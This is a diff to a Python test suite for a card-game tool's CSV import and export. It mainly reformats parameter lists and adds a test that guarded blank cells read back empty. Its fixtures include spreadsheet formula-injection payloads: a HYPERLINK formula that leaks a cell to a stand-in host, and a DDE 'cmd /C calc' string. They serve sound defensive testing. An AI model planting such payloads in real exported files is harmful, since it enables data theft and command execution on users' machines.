@@ -24,9 +24,22 @@ from tabletop.storage.user_sets import CardValidationError, validate_card
 EMPTY = CardDatabase.from_sets([])
 HEADER = "set,number,type,name,name_ja,text\r\n"
 FORMULAS = [
-    '=HYPERLINK("http://example.com/?leak="&A1,"Click")', "@SUM(A1:A9)", "+1+1", "-1+1",
-    "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=", "-", "'", "''", "'=1", "＝1+1", "-2", "+7",
-]  # fmt: skip
+    '=HYPERLINK("http://example.com/?leak="&A1,"Click")',
+    "@SUM(A1:A9)",
+    "+1+1",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=",
+    "-",
+    "'",
+    "''",
+    "'=1",
+    "＝1+1",
+    "-2",
+    "+7",
+]
 JAPANESE = ["かめはめ波", "ベジータ", "幽☆遊☆白書", "霊丸", "魔貫光殺砲 Lv2"]
 TEXTS = st.one_of(
     st.text(max_size=30),
@@ -97,9 +110,16 @@ def test_any_text_round_trips_through_export_and_import_or_is_refused_by_row_and
 
 @pytest.mark.parametrize(
     ("char", "column"),
-    [("\x1b", "name"), ("\x07", "name_ja"), ("\u202e", "name"), ("\u200b", "text"),
-     ("\x00", "text"), ("\ufeff", "name"), ("\u2066", "name_ja")],
-)  # fmt: skip
+    [
+        ("\x1b", "name"),
+        ("\x07", "name_ja"),
+        ("\u202e", "name"),
+        ("\u200b", "text"),
+        ("\x00", "text"),
+        ("\ufeff", "name"),
+        ("\u2066", "name_ja"),
+    ],
+)
 def test_a_control_or_invisible_character_is_refused_by_row_and_column(
     char: str, column: str
 ) -> None:
@@ -141,13 +161,19 @@ def test_a_file_of_no_encoding_names_its_first_bad_row() -> None:
     ("rows", "row"),
     [
         # the quote of row 3 is never closed: it would swallow rows 4 and 5 into one name
-        ('ZZT,1,drill,Fine,,\r\nZZT,2,drill,"Kame,,\r\nZZT,3,drill,Big,,\r\nZZT,4,drill,X,,\r\n', 3),
+        (
+            'ZZT,1,drill,Fine,,\r\nZZT,2,drill,"Kame,,\r\nZZT,3,drill,Big,,\r\nZZT,4,drill,X,,\r\n',
+            3,
+        ),
         # closed rows later, amid a cell: the strict reader stops there
         ('ZZT,1,drill,"Kame,,\r\nZZT,2,drill,"Big",,\r\n', 2),
         # closed rows later at a cell's end: a cell holding a whole row is refused
-        ('ZZT,1,drill,Fine,,\r\nZZT,2,drill,"Kame,,\r\nZZT,3,drill,Big,,\r\nZZT,4,drill,X,"",\r\n', 3),
+        (
+            'ZZT,1,drill,Fine,,\r\nZZT,2,drill,"Kame,,\r\nZZT,3,drill,Big,,\r\nZZT,4,drill,X,"",\r\n',
+            3,
+        ),
     ],
-)  # fmt: skip
+)
 def test_an_unclosed_quote_is_reported_at_its_row(rows: str, row: int) -> None:
     with pytest.raises(CardFileError) as refused:
         plan_import((HEADER + rows).encode(), "csv", game="dbgt", database=EMPTY)
@@ -199,8 +225,16 @@ def test_the_unsafe_pattern_is_every_control_format_and_separator_character() ->
 
 
 def test_import_reads_back_the_marks_export_writes_for_the_set_name() -> None:
-    card = validate_card("dbgt", {"id": "ZZT-1", "set": "ZZT", "number": "1", "type": "drill",
-                                  "name": "-2+3+cmd|' /C calc'!A0"})  # fmt: skip
+    card = validate_card(
+        "dbgt",
+        {
+            "id": "ZZT-1",
+            "set": "ZZT",
+            "number": "1",
+            "type": "drill",
+            "name": "-2+3+cmd|' /C calc'!A0",
+        },
+    )
     data = write_csv("dbgt", [card], {"ZZT": ("=HYPERLINK(1)", "@ミ")})
     header, cells = _cells(data)
     row = dict(zip(header, cells, strict=True))
@@ -209,3 +243,26 @@ def test_import_reads_back_the_marks_export_writes_for_the_set_name() -> None:
     plan = plan_import(data, "csv", game="dbgt", database=EMPTY)
     assert plan.cards[0][1] == card
     assert (plan.sets["ZZT"].name, plan.sets["ZZT"].name_ja) == ("=HYPERLINK(1)", "@ミ")
+
+
+@pytest.mark.parametrize("blank", ["\t", "\t ", "\t\t", " \t"])
+def test_a_guarded_blank_cell_reads_back_empty(blank: str) -> None:
+    """A cell of blanks that starts like a formula is written with its guard (``'\\t``) and
+    read back empty, not as the guard's apostrophe (hypothesis found ``note='\\t'``)."""
+    card = validate_card(
+        "dbgt",
+        {
+            "id": "ZZT-1",
+            "set": "ZZT",
+            "number": "1",
+            "type": "drill",
+            "name": "Blank",
+            "note": blank,
+        },
+    )
+    plan = plan_import(
+        write_csv("dbgt", [card], {"ZZT": (blank, None)}), "csv", game="dbgt", database=EMPTY
+    )
+    assert plan.ok
+    assert plan.cards[0][1].note is None
+    assert plan.sets["ZZT"].name == "ZZT"
